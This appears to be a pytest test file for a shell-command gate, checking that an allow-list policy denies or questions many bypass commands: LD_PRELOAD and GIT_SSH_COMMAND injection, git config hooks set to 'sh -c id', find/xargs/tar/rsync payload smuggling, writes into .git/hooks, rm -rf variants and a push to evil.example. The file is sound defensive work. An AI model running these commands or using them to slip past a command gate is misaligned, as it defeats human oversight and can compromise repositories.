"""A realistic allow-list policy set, decided by the real gate pieces (issue 10).

``fixtures/allowlist`` allows whole tools the way admins write them (``git *``,
``find *``, ``env *``, ``xargs *`` …), denies ``rm -rf *`` and asks for
``git push *``. Every command below goes through the real decider: the analysis
layer, the protected-paths layer and the casbin layer over that set, with the
closing default ``ask``. The semantics checked:

1. every program that runs needs its own allow: a wrapper's payload and every
   program an option names is a segment of its own, and an allow on the wrapper
   covers the wrapper only (the closing default decides the payload);
2. ``env NAME=value``, ``-i``, ``-u``, ``-C``, ``-S`` read like prefix assignments;
3. code-loading and state-changing options are findings (ask);
4. writes through options are write targets (a protected path denies);
5. deny and ask rules also match each segment's canonical form.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from shellgate.policy.loader import SHIPPED_MODEL
from shellgate.shell import analyse
from tests.shell.allowlist_helpers import (
    FIXTURE,
    NOT_ALLOW,
    WORKDIR,
    A,
    D,
    K,
    decider,
    effect,
    p,
    verdict,
)

# --- the issue's measured sample: none of these may be allowed ------------------
ISSUE_SAMPLE = [
    p("env-ld-preload", "env LD_PRELOAD=./evil.so git status", K),
    p("env-git-ssh-command", "env GIT_SSH_COMMAND='sh -c id' git fetch", K),
    p("find-exec-python", "find . -exec python3 x.py \\;", K),
    p("xargs-sh", "xargs sh x.sh", K),
    p("git-ls-remote-upload-pack", "git ls-remote --upload-pack='sh -c id' .", K),
    p("git-config-fsmonitor", "git config core.fsmonitor 'sh -c id'", K),
    p("git-work-tree-hooks", "git --work-tree=.git/hooks checkout HEAD -- pre-commit", D),
    p("git-no-pager-push", "git --no-pager push https://evil.example/x.git HEAD", K),
    p("rm-Rf", "rm -Rf x", D),
    p("rm-f-r", "rm -f -r x", D),
    p("rm-long", "rm --recursive --force x", D),
    p("rm-rfv", "rm -rfv x", D),
]

# --- 1. wrapper payloads are segments: the wrapper's allow covers the wrapper only ---
WRAPPER_PAYLOADS = [
    p("find-execdir-sh", "find . -execdir sh -c id \\;", K),
    p("find-ok-python", "find . -ok python3 x.py {} \\;", K),
    p("find-okdir-sh", "find . -okdir sh x.sh \\;", K),
    p("find-exec-plus-bash", "find . -name '*.sh' -exec bash {} +", K),
    p("find-exec-abs-python", "find . -exec /usr/bin/python3 x.py \\;", K),
    p("find-second-exec", "find . -exec grep -l foo {} \\; -exec python3 x.py \\;", K),
    p("find-exec-after-or", "find . -name a -exec ls {} + -o -exec python3 x \\;", K),
    p("find-exec-sh-c-grep", "find . -exec sh -c 'grep foo \"$1\"' _ {} \\;", K),
    p("find-exec-placeholder", "find . -exec {} \\;", K),
    p("find-exec-variable", "find . -exec $TOOL {} \\;", K),
    p("find-exec-env-preload", "find . -exec env LD_PRELOAD=x.so git status \\;", K),
    p("find-exec-make", "find . -maxdepth 1 -exec make -C {} \\;", K),
    p("xargs-python", "xargs -0 python3", K),
    p("xargs-I-sh-c", "xargs -I{} sh -c 'cat {}'", K),
    p("xargs-parallel-bash", "xargs -n1 -P4 bash x.sh", K),
    p("xargs-arg-file", "xargs -a list.txt python3", K),
    p("xargs-arg-file-long", "xargs --arg-file=list.txt perl x.pl", K),
    p("xargs-variable", 'xargs "$x"', K),
    p("xargs-no-run-if-empty", "xargs -r make", K),
    p("xargs-double-dash", "xargs -- sh x.sh", K),
    p("xargs-bundle", "xargs -0rn1 sh x.sh", K),
    p("xargs-delimiter", "xargs -d '\\n' sh x.sh", K),
    p("xargs-env-unsafe", "xargs env FOO=1 grep x", K),
    p("pipe-find-xargs-sh", "find . -print0 | xargs -0 sh -c id", K),
    p("git-log-xargs-python", "git log --format=%H | xargs python3 x.py", K),
    p("env-python", "env python3 x.py", K),
    p("env-safe-then-python", "env LANG=C python3 x.py", K),
    p("env-env-python", "env env python3 x.py", K),
    p("timeout-python", "timeout 5 python3 x.py", K),
    p("nice-sh", "nice -n 5 sh x.sh", K),
    p("nice-dash-number", "nice -10 sh x.sh", K),
    p("nohup-python", "nohup python3 x.py", K),
    p("timeout-nice-python", "timeout 5 nice -n 1 python3 x.py", K),
    p("timeout-signal-python", "timeout -s KILL 5 python3 x.py", K),
    p("nohup-env-preload", "nohup env LD_PRELOAD=x.so ls", K),
    p("env-xargs-sh", "env LANG=C xargs sh x.sh", K),
    p("timeout-find-exec-python", "timeout 9 find . -exec python3 x.py \\;", K),
    p("sudo-ls", "sudo ls", K),
    p("stdbuf-ls", "stdbuf -o0 ls", K),
    p("watch-ls", "watch ls", K),
    p("and-list-env-preload", "ls && env LD_PRELOAD=x.so ls", K),
]

# --- 2. env assignments and options read like prefix assignments ---------------------
ENV_ASSIGNMENTS = [
    p("env-path", "env PATH=/tmp/evil:/usr/bin git status", K),
    p("env-i-path", "env -i PATH=/tmp git status", K),
    p("env-git-dir", "env GIT_DIR=/tmp/x git status", K),
    p("env-git-exec-path", "env GIT_EXEC_PATH=/tmp git status", K),
    p("env-pager", "env PAGER='sh -c id' git log", K),
    p("env-git-pager", "env GIT_PAGER=x git log", K),
    p("env-editor", "env EDITOR=x git commit", K),
    p("env-git-config-global", "env GIT_CONFIG_GLOBAL=/tmp/c git log", K),
    p(
        "env-git-config-count",
        "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c id' git log",
        K,
    ),
    p("env-bash-env", "env BASH_ENV=x.sh git status", K),
    p("env-ssh-proxy", "env GIT_SSH_COMMAND='ssh -oProxyCommand=id' git fetch", K),
    p("env-i", "env -i git status", K),
    p("env-i-long", "env --ignore-environment git status", K),
    p("env-dash", "env - git status", K),
    p("env-u", "env -u HOME git status", K),
    p("env-u-long", "env --unset=PATH git status", K),
    p("env-C", "env -C /tmp git status", K),
    p("env-C-long", "env --chdir=/tmp ls", K),
    p("env-S", "env -S 'git status'", K),
    p("env-S-long", "env --split-string='python3 x.py'", K),
    p("env-S-glued", "env -S'git status'", K),
    p("env-variable-command", "env $CMD", K),
    p("env-unsafe-plain", "env FOO=1 ls", K),
]

# --- 3. code-loading and state-changing options are findings --------------------------
CODE_LOADING = [
    p("awk-f", "awk -f x.awk f", K),
    p("awk-f-glued", "awk -fx.awk f", K),
    p("awk-file-eq", "awk --file=x.awk f", K),
    p("awk-file-sep", "awk --file x.awk f", K),
    p("awk-E", "awk -E x.awk f", K),
    p("awk-exec-long", "awk --exec=x.awk f", K),
    p("awk-exec-abbrev", "awk --exe=x.awk f", K),
    p("awk-l", "awk -l ordchr '{print}' f", K),
    p("awk-load", "awk --load=ordchr '{print}' f", K),
    p("awk-W-exec", "awk -W exec x.awk f", K),
    p("awk-i-include", "awk -i inc.awk '{print}' f", K),
    p("awk-v-then-f", "awk -vx=1 -fx.awk f", K),
    p("awk-system", "awk 'BEGIN{system(\"id\")}'", K),
    p("awk-pipe-sh", "awk '{print | \"sh\"}' f", K),
    p("sed-1e", "sed '1e id' f", K),
    p("sed-1e-escaped", "sed 1e\\ id f", K),
    p("sed-e-1e", "sed -e '1e id' f", K),
    p("sed-expression-eq", "sed --expression='1e id' f", K),
    p("sed-expression-sep", "sed --expression '1e id' f", K),
    p("sed-expression-abbrev", "sed --expr='1e id' f", K),
    p("sed-ne-1e", "sed -ne '1e id' f", K),
    p("sed-s-e", "sed 's/a/b/e' f", K),
    p("sed-s-pipe-e", "sed 's|a|b|e' f", K),
    p("sed-s-ge", "sed 's/a/b/ge' f", K),
    p("sed-s-eg", "sed 's/a/b/eg' f", K),
    p("sed-s-ep", "sed -n 's/a/b/ep' f", K),
    p("sed-E-s-e", "sed -E 's/a/b/e' f", K),
    p("sed-bare-e", "sed e f", K),
    p("sed-last-e", "sed '$e id' f", K),
    p("sed-regex-e", "sed '/x/e id' f", K),
    p("sed-negated-e", "sed '1!e id' f", K),
    p("sed-second-expression", "sed -e p -e '1e id' f", K),
    p("sed-after-semicolon", "sed 's/a/b/;1e id' f", K),
    p("sed-in-block", "sed '1{e id\n}' f", K),
    p("sed-f", "sed -f x.sed f", K),
    p("sed-file-eq", "sed --file=x.sed f", K),
    p("sed-nf", "sed -nf x.sed f", K),
    p("git-config-hookspath", "git config core.hooksPath /tmp/h", K),
    p("git-config-pager", "git config core.pager 'sh -c id'", K),
    p("git-config-sshcommand", "git config core.sshCommand 'sh -c id'", K),
    p("git-config-editor", "git config core.editor 'sh -c id'", K),
    p("git-config-alias", "git config alias.st '!sh -c id'", K),
    p("git-config-diff-external", "git config diff.external ./x.sh", K),
    p("git-config-filter-clean", "git config filter.x.clean ./x.sh", K),
    p("git-config-filter-smudge", "git config filter.x.smudge ./x.sh", K),
    p("git-config-global-fsmonitor", "git config --global core.fsmonitor ./x", K),
    p("git-config-add-fsmonitor", "git config --add core.fsmonitor ./x", K),
    p("git-config-set-subcommand", "git config set core.fsmonitor ./x", K),
    p("git-config-mixed-case", "git config Core.FSMonitor ./x", K),
    p("git-config-file", "git config --file=x.cfg user.name a", K),
    p("git-config-file-sep", "git config --file x.cfg user.name a", K),
    p("git-config-file-git-config", "git config --file .git/config core.pager x", NOT_ALLOW),
    p("git-c-pager", "git -c core.pager='sh -c id' log", K),
    p("git-c-fsmonitor", "git -c core.fsmonitor='sh -c id' status", K),
    p("git-c-sshcommand", "git -c core.sshCommand='ssh -o ProxyCommand=id' fetch", K),
    p("git-c-hookspath", "git -c core.hooksPath=/tmp/h commit -m x", K),
    p("git-c-alias", "git -c alias.x='!sh -c id' x", K),
    p("git-c-diff-external", "git -c diff.external=./x.sh diff", K),
    p("git-c-filter", "git -c filter.x.clean=./x add f", K),
    p("git-c-editor", "git -c core.editor=./x commit", K),
    p("git-config-env", "git --config-env=core.pager=X log", K),
    p("git-exec-path", "git --exec-path=/tmp/x status", K),
    p("git-init-template", "git init --template=/tmp/t", K),
    p("git-init-template-sep", "git init --template /tmp/t x", K),
    p("git-clone-template", "git clone --template=/tmp/t https://example.com/r.git", K),
    p("pytest-p", "python -m pytest -p evil tests", K),
    p("pytest-p-glued", "python -m pytest -pevil tests", K),
    p("pytest-p-dotted", "python -m pytest -q -p evil.plugin", K),
]

# --- 1. programs named by options are segments of their own ---------------------------
OPTION_PROGRAMS = [
    p("ls-remote-upload-pack-sep", "git ls-remote --upload-pack 'sh -c id' .", K),
    p("ls-remote-upload-pack-abbrev", "git ls-remote --upload-p='sh -c id' .", K),
    p("fetch-upload-pack", "git fetch --upload-pack=./x origin", K),
    p("pull-upload-pack", "git pull --upload-pack=./x origin main", K),
    p("clone-upload-pack", "git clone --upload-pack=./x https://example.com/r.git d", K),
    p("clone-u", "git clone -u ./x https://example.com/r.git d", K),
    p("clone-u-glued", "git clone -u./x https://example.com/r.git d", K),
    p("clone-qu-bundle", "git clone -qu ./x https://example.com/r.git d", K),
    p("clone-upload-pack-abbrev", "git clone --upload-pa=./x https://example.com/r.git d", K),
    p("no-pager-fetch-upload-pack", "git --no-pager fetch --upload-pack ./x origin", K),
    p("C-ls-remote-upload-pack", "git -C sub ls-remote --upload-pack=./x .", K),
    p("fetch-pack-upload-pack", "git fetch-pack --upload-pack=./x https://example.com/r.git", K),
    p("push-receive-pack", "git push --receive-pack=./x origin", K),
    p("send-pack-receive-pack", "git send-pack --receive-pack=./x origin main", K),
    p("archive-exec", "git archive --remote=origin --exec=./x HEAD", K),
    p("rebase-x", "git rebase -x 'sh -c id' HEAD~1", K),
    p("rebase-exec-sep", "git rebase --exec 'sh -c id' HEAD~1", K),
    p("rebase-exec-eq", "git rebase --exec=make main", K),
    p("rebase-x-glued", "git rebase -x./x.sh main", K),
    p("rebase-i-x", "git rebase -i -x id main", K),
    p("rebase-exec-abbrev", "git rebase --exe=id main", K),
    p("rebase-x-rm-rf", "git rebase -x 'rm -rf x' main", D),
    p("submodule-foreach", "git submodule foreach 'sh -c id'", K),
    p("submodule-foreach-recursive", "git submodule foreach --recursive id", K),
    p("submodule-quiet-foreach", "git submodule --quiet foreach 'python3 x.py'", K),
    p("submodule-foreach-rm-rf", "git submodule foreach 'rm -rf x'", D),
    p("bisect-run-script", "git bisect run ./test.sh", K),
    p("bisect-run-python", "git bisect run python3 x.py", K),
    p("bisect-run-rm-fr", "git bisect run rm -fr x", D),
    p("difftool-x", "git difftool -x 'sh -c id' HEAD", K),
    p("difftool-extcmd", "git difftool --extcmd='sh -c id' HEAD", K),
    p("difftool-extcmd-abbrev", "git difftool --extc=./x HEAD", K),
    p("difftool-x-glued", "git difftool -x./x HEAD", K),
    p("filter-branch-tree", "git filter-branch --tree-filter 'sh -c id' HEAD", K),
    p("filter-branch-index", "git filter-branch --index-filter 'python3 x.py' HEAD", K),
    p("filter-branch-env", "git filter-branch --env-filter 'sh x.sh' HEAD", K),
    p("filter-branch-commit", "git filter-branch --commit-filter 'sh x.sh' HEAD", K),
    p("filter-branch-msg", "git filter-branch --msg-filter 'python3 x.py' HEAD", K),
    p("filter-branch-parent", "git filter-branch --parent-filter ./x HEAD", K),
    p("filter-branch-tag-name", "git filter-branch --tag-name-filter ./x HEAD", K),
    p(
        "tar-checkpoint-action",
        "tar -tf x.tar --checkpoint=1 --checkpoint-action=exec='sh -c id'",
        K,
    ),
    p("tar-checkpoint-action-abbrev", "tar -tf x.tar --checkpoint-act=exec=id", K),
    p("tar-I", "tar -tf x.tar -I 'sh -c id'", K),
    p("tar-I-glued", "tar -tf x.tar -I./x", K),
    p("tar-use-compress-program", "tar -tf x.tar --use-compress-program='sh -c id'", K),
    p("tar-use-compress-abbrev", "tar -tf x.tar --use-compress-prog=./x", K),
    p("tar-rsh-command", "tar -tf host:x.tar --rsh-command=./x", K),
    p("tar-to-command", "tar -tf x.tar --to-command='sh -c id'", K),
    p("tar-to-command-abbrev", "tar -tf x.tar --to-com=./x", K),
    p("tar-to-command-rm-rf", "tar -tf x.tar --to-command='rm -rf x'", D),
    p("tar-info-script", "tar -tf x.tar --info-script=x.sh", K),
    p("tar-F", "tar -tf x.tar -F x.sh", K),
    p("tar-new-volume-script", "tar -tf x.tar --new-volume-script=x.sh", K),
    p("rsync-e", "rsync -e 'sh -c id' a host:b", K),
    p("rsync-rsh-eq", "rsync --rsh='sh -c id' a host:b", K),
    p("rsync-rsh-sep", "rsync --rsh 'ssh -o ProxyCommand=id' a host:b", K),
    p("rsync-e-ssh", "rsync -e ssh src/ host:dst/", K),
    p("rsync-ae-bundle", "rsync -ae 'sh -c id' a host:b", K),
    p("rsync-rsync-path", "rsync --rsync-path='sh -c id' a host:b", K),
    p("man-html", "man --html='sh -c id' ls", K),
    p("man-H-glued", "man -H'sh -c id' ls", K),
    p("man-P", "man -P 'sh -c id' ls", K),
    p("man-P-glued", "man -Pless ls", K),
    p("man-pager", "man --pager='sh -c id' ls", K),
    p("man-pager-abbrev", "man --pag=./x ls", K),
    p("go-test-exec", "go test -exec 'sh -c id' ./...", K),
    p("go-test-exec-eq", "go test -exec=./x ./...", K),
    p("go-test-exec-double-dash", "go test --exec=./x ./...", K),
    p("go-test-toolexec", "go test -toolexec 'sh -c id' ./...", K),
    p("go-test-toolexec-eq", "go test -toolexec=./x ./...", K),
    p("go-test-ldflags-extld", "go test -ldflags '-extld=./x' ./...", K),
    p("go-test-ldflags-extld-sep", "go test -ldflags='-extld ./x' ./...", K),
]

# --- 4. writes through options: protected paths deny -----------------------------------
OPTION_WRITES = [
    p("git-work-tree-sep", "git --work-tree .git/hooks checkout HEAD -- pre-commit", D),
    p("git-git-dir-hooks", "git --git-dir=.git/hooks/x init", D),
    p("checkout-index-prefix", "git checkout-index --prefix=.git/hooks/ -a", D),
    p("checkout-index-prefix-sep", "git checkout-index -a --prefix .git/hooks/", D),
    p("tar-index-file", "tar -tf x.tar --index-file=.git/hooks/pre-commit", D),
    p("rsync-log-file", "rsync --log-file=.git/hooks/pre-commit a b", D),
    p("rsync-into-hooks", "rsync -a x.sh .git/hooks/pre-commit", D),
    p("rsync-dir-into-hooks", "rsync -a src/ .git/hooks/", D),
    p("awk-pretty-print", "awk --pretty-print=.git/hooks/pre-commit 'BEGIN{}'", D),
    p("awk-o-glued", "awk -o.git/hooks/pre-commit 'BEGIN{}'", D),
    p("awk-profile", "awk --profile=.git/hooks/pre-commit '{print}' f", D),
    p("awk-dump-variables", "awk --dump-variables=.git/hooks/pre-commit '{print}' f", D),
    p("awk-d-glued", "awk -d.git/hooks/pre-commit '{print}' f", D),
    p("sed-w-hooks", "sed -n 'w .git/hooks/pre-commit' f", D),
    p("sed-s-w-hooks", "sed 's/a/b/w .git/hooks/pre-commit' f", D),
    p("sed-i-hooks", "sed -i s/a/b/ .git/hooks/pre-commit", D),
    p("sed-i-git-config", "sed -i -e s/a/b/ .git/config", D),
    p("find-fprint", "find . -fprint .git/hooks/pre-commit", D),
    p("find-fprint0", "find . -fprint0 .git/hooks/pre-commit", D),
    p("find-fprintf", "find . -fprintf .git/hooks/pre-commit '%p'", D),
    p("find-fls", "find . -fls .git/hooks/pre-commit", D),
    p("find-delete-hooks", "find .git/hooks -delete", D),
    p("find-name-delete-hooks", "find .git/hooks -name pre-commit -delete", D),
    p("go-test-c-o-hooks", "go test -c -o .git/hooks/pre-commit ./pkg", D),
]

# --- 5. canonical forms for deny and ask rules ------------------------------------------
CANONICAL = [
    p("rm-fr", "rm -fr x", D),
    p("rm-r-f-dashdash", "rm -r -f -- x", D),
    p("rm-force-recursive", "rm --force --recursive x", D),
    p("rm-long-abbrev", "rm --rec --force x", D),
    p("rm-r-force", "rm -r --force x", D),
    p("rm-vfR", "rm -vfR x", D),
    p("rm-I-rf", "rm -I -rf x", D),
    p("rm-rf-bare", "rm -rf", D),
    p("abs-rm-Rf", "/bin/rm -Rf x", D),
    p("backslash-rm-rfv", "\\rm -rfv x", D),
    p("sudo-rm-Rf", "sudo rm -Rf x", D),
    p("env-rm-fr", "env rm -fr x", D),
    p("timeout-rm-r-f", "timeout 5 rm -r -f x", D),
    p("find-exec-rm-rf", "find . -exec rm -rf {} \\;", D),
    p("xargs-rm-rf", "xargs rm -rf", D),
    p("xargs-rm-r-f", "xargs -0 rm -r -f", D),
    p("pipe-then-rm-Rf", "ls | xargs rm -Rf", D),
    p("rm-r-only", "rm -r x", K),
    p("rm-f-only", "rm -f x", K),
    p("rm-plain", "rm x", K),
    p("git-push", "git push origin main", K),
    p("git-C-push", "git -C . push origin", K),
    p("git-P-push", "git -P push origin", K),
    p("git-C-no-pager-push", "git -C sub --no-pager push origin", K),
    p("git-push-force", "git push --force origin", K),
    p("git-paginate-push", "git --paginate push origin", K),
    p("env-git-push", "env git push origin", K),
    p("timeout-git-push", "timeout 60 git push origin", K),
    p("git-submodule-foreach-push", "git submodule foreach 'git push'", K),
]

# --- controls: these must stay allowed ------------------------------------------------
CONTROLS = [
    p("find-name", "find . -name x", A),
    p("find-exec-grep-plus", "find . -name '*.py' -exec grep -l foo {} +", A),
    p("find-exec-cat", "find . -type f -exec cat {} \\;", A),
    p("find-execdir-grep", "find . -execdir grep -H x {} +", A),
    p("find-exec-wc", "find . -name '*.txt' -exec wc -l {} +", A),
    p("find-maxdepth-print", "find . -maxdepth 1 -print", A),
    p("find-print0-xargs-grep", "find . -name x -print0 | xargs -0 grep foo", A),
    p("xargs-0-grep", "xargs -0 grep foo", A),
    p("xargs-grep-l", "xargs grep -l foo", A),
    p("xargs-n1-echo", "xargs -n 1 echo", A),
    p("xargs-I-cat", "xargs -I{} cat {}", A),
    p("xargs-bare", "xargs", A),
    p("ls-xargs-wc", "ls | xargs wc -l", A),
    p("xargs-env-grep", "xargs env grep x", A),
    p("xargs-timeout-grep", "xargs timeout 5 grep x", A),
    p("env-bare", "env", A),
    p("env-sort", "env | sort", A),
    p("env-lang-ls", "env LANG=C ls", A),
    p("env-lc-all-sort", "env LC_ALL=C sort -u f", A),
    p("env-term-git-log", "env TERM=dumb git log", A),
    p("env-git-terminal-prompt", "env GIT_TERMINAL_PROMPT=0 git fetch origin", A),
    p("env-git-status", "env git status", A),
    p("env-double-dash", "env -- ls", A),
    p("timeout-git-status", "timeout 5 git status", A),
    p("nice-grep", "nice -n 10 grep foo f", A),
    p("nohup-ls", "nohup ls", A),
    p("timeout-nice-ls", "timeout 5 nice -n 1 ls", A),
    p("git-status", "git status", A),
    p("git-log-p", "git log -p", A),
    p("git-diff-stat", "git diff --stat", A),
    p("git-log-oneline", "git log --oneline -5", A),
    p("git-show", "git show HEAD", A),
    p("git-branch", "git branch -a", A),
    p("git-rev-parse", "git rev-parse HEAD", A),
    p("git-config-get", "git config --get user.name", A),
    p("git-config-list", "git config -l", A),
    p("git-grep", "git grep foo", A),
    p("git-blame", "git blame f", A),
    p("git-stash-list", "git stash list", A),
    p("git-fetch", "git fetch origin", A),
    p("git-ls-remote", "git ls-remote origin", A),
    p("git-clone", "git clone https://example.com/r.git", A),
    p("git-log-format", "git log --format='%H %s'", A),
    p("git-log-grep-push", "git log --grep=push", A),
    # Moving git's tree is unusual for an agent and the class of a published
    # bypass (--work-tree=.git/hooks): it asks even when it points at the workdir.
    p("git-work-tree-dot", "git --work-tree=. status", K),
    p("git-rebase-x-grep", "git rebase -x 'grep foo f' main", A),
    p("git-submodule-foreach-git-status", "git submodule foreach 'git status'", A),
    p("git-bisect-run-grep", "git bisect run grep -q foo f", A),
    p("sed-n-range", "sed -n 1,5p f", A),
    p("sed-s-g", "sed 's/a/b/g' f", A),
    p("sed-e-in-pattern", "sed -e 's/e/E/' f", A),
    p("sed-e-in-replacement", "sed 's/x/e/' f", A),
    p("sed-regex-print", "sed -n '/err/p' f", A),
    p("sed-regex-e-delete", "sed '/e/d' f", A),
    p("sed-E-group", "sed -E 's/(a)e/\\1/' f", A),
    p("sed-nth", "sed 's/a/b/2' f", A),
    p("sed-last-line", "sed -n '$p' f", A),
    p("sed-y", "sed 'y/abc/xyz/' f", A),
    p("awk-print", "awk '{print $1}' f", A),
    p("awk-F", "awk -F: '{print $1}' /etc/passwd", A),
    p("awk-v", "awk -v n=1 'NR==n' f", A),
    p("awk-begin", "awk 'BEGIN{print 1}'", A),
    p("awk-count", "awk '/e/{c++} END{print c}' f", A),
    p("tar-tf", "tar -tf x.tar", A),
    p("rsync-a", "rsync -a src/ dst/", A),
    p("rsync-av", "rsync -av src/ dst/", A),
    p("rsync-dry-run", "rsync -n -a src/ dst/", A),
    p("man-ls", "man ls", A),
    p("man-section", "man 5 crontab", A),
    p("man-k", "man -k printf", A),
    p("man-P-cat", "man -P cat ls", A),
    p("go-test", "go test ./...", A),
    p("go-test-run", "go test -run TestX -v ./pkg", A),
    p("go-test-count-race", "go test -count=1 -race ./...", A),
    p("pytest-q", "python -m pytest -q tests", A),
    p("pytest-x", "python -m pytest -x tests/test_a.py", A),
    p("pytest-k", "python -m pytest -k foo", A),
    p("ls-la", "ls -la", A),
    p("cat-readme", "cat README.md", A),
    p("grep-rn", "grep -rn TODO src", A),
    p("sort-u", "sort -u f", A),
    p("head-n", "head -n 5 f", A),
    p("wc-l", "wc -l f", A),
    p("echo", "echo hi", A),
    p("echo-rm-rf", "echo rm -rf x", A),
    p("grep-rm-rf", "grep -r 'rm -rf' .", A),
]

# --- writes inside the workdir: an obvious writer (rsync) stays allowed; a write
# through an option of any other tool is a finding ("writes 'x' via its operand") ---
WORKDIR_WRITES = [
    p("rsync-a-writes-dst", "rsync -a src/ dst/", A),
    p("rsync-log-file-workdir", "rsync --log-file=rsync.log src/ dst/", A),
    p("find-delete-workdir", "find . -name '*.pyc' -delete", K),
    # writes in the workspace, decided by the fixture's write:** like `> FILE`
    p("find-fprint-workdir", "find . -fprint out.txt", A),
    p("awk-dump-variables-workdir", "awk --dump-variables=vars.txt '{print}' f", A),
    p("tar-index-file-workdir", "tar -tf x.tar --index-file=idx.txt", A),
    # Reports and build products (git's subcommand outputs, go -o): inside the
    # workdir they need no question (outside they ask; protected paths deny).
    p("git-checkout-index-prefix-workdir", "git checkout-index --prefix=out/ -a", A),
    p("go-test-c-o-workdir", "go test -c -o out.bin ./pkg", A),
]

# --- allow matching stays literal: no allow rule covers these ---------------------------
LITERAL_ALLOWS = [
    p("tar-tvf", "tar -tvf x.tar", K),
    p("tar-xf", "tar -xf x.tar", K),
    p("tar-tzf", "tar -tzf x.tgz", K),
    p("go-vet", "go vet ./...", K),
    p("python3-pytest", "python3 -m pytest", K),
    p("python-pip", "python -m pip install x", K),
    p("sudo-git-status", "sudo git status", K),
]

CASES = [
    *ISSUE_SAMPLE, *WRAPPER_PAYLOADS, *ENV_ASSIGNMENTS, *CODE_LOADING, *OPTION_PROGRAMS,
    *OPTION_WRITES, *CANONICAL, *CONTROLS, *WORKDIR_WRITES, *LITERAL_ALLOWS,
]  # fmt: skip


def test_fixture_uses_the_shipped_model() -> None:
    assert (FIXTURE / "model.conf").read_text() == Path(SHIPPED_MODEL).read_text()
    assert decider().layer_names == ["command-analysis", "protected-paths", "protected-reads", "repositories", "casbin", "write-rules", "workspace-root"]


def test_table_is_large_and_ids_are_unique() -> None:
    ids = [case.id for case in CASES]
    assert len(ids) >= 120
    assert len(set(ids)) == len(ids)


@pytest.mark.parametrize(("command", "expected"), CASES)
def test_allowlist_decision(command: str, expected: str) -> None:
    got = verdict(command)
    shown = [(s.segment.argv, s.decision.effect, s.decision.layer) for s in got.segments]
    if expected == NOT_ALLOW:
        assert got.effect != "allow", shown
    else:
        assert got.effect == expected, shown


# What runs as its own segment: (command, the payload's argv). The payload segment
# must exist, carry a "… payload" context, and be decided on its own.
PAYLOAD_SEGMENTS = [
    p("env", "env LD_PRELOAD=./evil.so git status", ("git", "status")),
    p("find-exec", "find . -exec python3 x.py \\;", ("python3", "x.py")),
    p("find-execdir", "find . -execdir grep -l foo {} +", ("grep", "-l", "foo", "{}")),
    p("find-ok", "find . -ok python3 x.py {} \\;", ("python3", "x.py", "{}")),
    p("xargs", "xargs sh x.sh", ("sh", "x.sh")),
    p("xargs-0", "xargs -0 grep foo", ("grep", "foo")),
    p("xargs-I", "xargs -I{} cat {}", ("cat", "{}")),
    p("timeout", "timeout 5 python3 x.py", ("python3", "x.py")),
    p("nice", "nice -n 5 sh x.sh", ("sh", "x.sh")),
    p("nohup", "nohup python3 x.py", ("python3", "x.py")),
    p("timeout-nice", "timeout 5 nice -n 1 ls", ("ls",)),
    p("sudo", "sudo ls", ("ls",)),
    p("git-rebase-x", "git rebase -x 'grep foo f' main", ("grep", "foo", "f")),
    p("git-submodule-foreach", "git submodule foreach 'python3 x.py'", ("python3", "x.py")),
    p("git-bisect-run", "git bisect run python3 x.py", ("python3", "x.py")),
    p("tar-to-command", "tar -tf x.tar --to-command='sh x.sh'", ("sh", "x.sh")),
    p("man-P", "man -P cat ls", ("cat",)),
    p("go-test-exec", "go test -exec ./x ./...", ("./x",)),
]


@pytest.mark.parametrize(("command", "payload"), PAYLOAD_SEGMENTS)
def test_payload_is_its_own_segment(command: str, payload: tuple[str, ...]) -> None:
    got = verdict(command)
    holders = [s for s in got.segments if s.segment.argv[: len(payload)] == payload]
    assert holders, [s.segment.argv for s in got.segments]
    assert holders[0].segment.context, holders[0].segment  # labelled where it came from
    wrapper = got.segments[0]
    assert wrapper.segment.argv != payload


@pytest.mark.parametrize(
    "command",
    ["find . -exec python3 x.py \\;", "xargs mytool x", "timeout 5 python3 x.py", "env python3 x"],
)
def test_undecided_payload_gets_the_closing_default(command: str) -> None:
    got = verdict(command)
    assert got.segments[0].decision.effect == "allow", got.segments[0]  # the wrapper's own allow
    payload = got.segments[-1]
    assert payload.decision.layer == "default", payload
    assert payload.decision.effect == "ask"


@pytest.mark.parametrize(
    "command",
    ["find . -exec {} \\;", 'xargs "$x"', "find . -exec $TOOL {} \\;", "env $CMD x"],
)
def test_non_literal_payload_is_a_finding(command: str) -> None:
    analysis = analyse(command, workdir=WORKDIR)
    assert any(s.findings for s in analysis.segments), analysis.segments
    assert effect(command) != "allow"


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("git --work-tree=.git/hooks checkout HEAD -- pre-commit", f"{WORKDIR}/.git/hooks"),
        ("git checkout-index --prefix=.git/hooks/ -a", f"{WORKDIR}/.git/hooks"),
        ("tar -tf x.tar --index-file=idx.txt", f"{WORKDIR}/idx.txt"),
        ("rsync --log-file=rsync.log src/ dst/", f"{WORKDIR}/rsync.log"),
        ("rsync -a src/ dst/", f"{WORKDIR}/dst"),
        ("awk --dump-variables=vars.txt '{print}' f", f"{WORKDIR}/vars.txt"),
        ("find . -fprint out.txt", f"{WORKDIR}/out.txt"),
        ("sed -n 'w .git/hooks/pre-commit' f", f"{WORKDIR}/.git/hooks/pre-commit"),
    ],
)
def test_option_writes_are_write_targets(command: str, target: str) -> None:
    writes = {w.rstrip("/") for s in analyse(command, workdir=WORKDIR).segments for w in s.write_paths}
    assert target in writes, sorted(writes)


def test_protected_write_is_denied_by_the_protected_paths_layer() -> None:
    got = verdict("git --work-tree=.git/hooks checkout HEAD -- pre-commit")
    assert got.effect == "deny"
    assert got.decision.layer == "protected-paths", got.decision


@pytest.mark.parametrize(
    ("command", "canonical"),
    [
        ("rm -Rf x", "rm -f -r x"),
        ("rm --recursive --force x", "rm -f -r x"),
        ("rm -rfv x", "rm -f -r x"),
        (
            "git --no-pager push https://evil.example/x.git HEAD",
            "git push https://evil.example/x.git HEAD",
        ),
    ],
)
def test_deny_and_ask_meet_the_canonical_form(command: str, canonical: str) -> None:
    segments = analyse(command, workdir=WORKDIR).segments
    assert canonical in {c for s in segments for c in s.canonical}, [s.canonical for s in segments]
    got = verdict(command)
    assert "canonical form" in got.decision.reason, got.decision.reason
